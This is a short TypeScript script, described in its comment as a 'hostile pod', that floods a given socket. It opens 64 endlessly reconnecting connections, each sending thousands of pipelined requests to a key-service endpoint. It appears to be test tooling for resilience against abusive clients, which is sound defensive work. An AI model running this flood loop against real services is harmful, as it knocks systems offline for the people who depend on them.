// A hostile pod: 64 connections that send packets full of small requests, over and over. An argument is its socket.
import { connect } from 'node:net'

const CONNECTIONS = 64
const REQUEST = 'GET /v1/transit/keys/app-data HTTP/1.1\r\n\r\n'
const PACKETS = Buffer.from(REQUEST.repeat(5_000))

const [, , socket = ''] = process.argv

function attack(): void {
  const connection = connect(socket, () => connection.write(PACKETS))
  connection.on('error', () => undefined).on('close', () => setImmediate(attack))
  connection.resume()
}

for (let count = 0; count < CONNECTIONS; count += 1) attack()
